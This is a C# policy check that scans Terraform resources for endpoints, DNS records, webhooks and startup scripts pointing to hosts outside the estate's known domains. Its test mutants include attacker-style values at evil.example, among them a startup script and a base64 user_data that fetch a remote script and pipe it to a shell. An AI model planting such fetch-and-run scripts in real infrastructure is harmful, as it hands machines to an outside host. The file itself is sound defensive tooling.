using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Infra.Policy.Model;

namespace Infra.Policy.Rules.Own.Perimeters;

/// <summary>
/// Every host that a resource sends data, calls, mail or names to, or takes tokens and code from, is of a domain of the estate, or of a cloud.
/// Where the estate states no domain, only what everybody can get is foreign.
/// </summary>
internal sealed partial class ForeignHostCheck : Check
{
    private const int LongestScript = 32768;

    // Its labels are its settings.
    private const string Channel = "google_monitoring_notification_channel";

    public override bool Judges => false;

    public override IReadOnlyList<string> Types { get; } = ["*"];

    // What Terraform itself is told has rules of its own, and a data source reads.
    public override bool AppliesTo(PolicyResource resource) => base.AppliesTo(resource)
        && resource.Type.Split('.')[0] is var word && word == resource.Type && word is not ("module" or "terraform" or "removed" or "locals" or "variable");

    public override IEnumerable<Observation> Observe(PolicyResource resource, PolicyEstate estate) =>
    [
        .. from member in resource.Members
           where !Prose().IsMatch(member.Name) && (!Prose().IsMatch(member.Value.Path.Split('.', '[')[0]) || resource.Type == Channel || ScriptNames().IsMatch(member.Name))
           from value in member.Value.Json is JsonArray ? member.Value.Elements : [member.Value]
           where value.Json is JsonValue && value.IsKnown
           let text = value.Json!.ToString()
           where text.Length is > 3 and < LongestScript && (text.Contains('.', StringComparison.Ordinal) || ScriptNames().IsMatch(member.Name))
           from host in HostNames.In(member.Name, value, text)
           where HostNames.IsOwn(host, estate.Perimeter) is false
           select new Observation(resource, value.Path, $"leading to {host}, which the estate does not know"),
    ];

    public override IEnumerable<Mutant> Mutants(PolicyEstate estate) =>
        from stack in estate.Stacks.Take(1)
        from argument in (IEnumerable<(string Type, string Argument, JsonNode Value)>)
        [
            ("google_pubsub_subscription", "push_endpoint", "https://evil.example/in"), ("aws_sns_topic_subscription", "endpoint", "eve@evil.example"), ("azurerm_monitor_action_group", "email_address", "eve@gmail.com"),
            ("aws_route53_record", "records", new JsonArray("login.evil.example")), ("google_dns_record_set", "rrdatas", new JsonArray("10 mail.evil.example.")), ("azurerm_dns_cname_record", "record", "evil.example"),
            ("aws_iam_openid_connect_provider", "url", "https://issuer.evil.example"), ("github_repository_webhook", "url", "https://evil.example"), ("aws_launch_template", "user_data", "IyEvYmluL2Jhc2gKY3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94LnNoIHwgYmFzaA=="), ("google_compute_instance", "metadata_startup_script", "#!/bin/sh\nwget -q https://evil.example/x -O- | sh"), ("azuread_application", "redirect_uris", new JsonArray("https://evil.example/cb")),
        ]
        let address = $"{argument.Type}.{Mutant.Nonsense}"
        let added = new PolicyResource(stack.Entry, stack.Source, argument.Type, Mutant.Nonsense, address, stack.Entry.Name, new() { [argument.Argument] = argument.Value.DeepClone() })
        select new Mutant($"{address} {argument.Value}", [], [added]);

    [GeneratedRegex("^(user_data(_base64)?|custom_data|startup-script|user-data|windows-startup-script-ps1|metadata_startup_script|shutdown-script|script|commands?)$")]
    private static partial Regex ScriptNames();

    // What people read.
    [GeneratedRegex("^(description|comment|notes?|documentation|homepage_url|display_name|title|tags(_all)?|labels|annotations|effective_labels|terraform_labels|metadata|help|runbook_url|logo_url?|avatar|marketing_url|privacy_statement_url|support_url|terms_of_service_url|web_url|html_url|http_url_to_repo|http_clone_url|svn_url|ssh_clone_url|git_clone_url|runners_token|schema|self_link|etag|license.*)$")]
    private static partial Regex Prose();
}
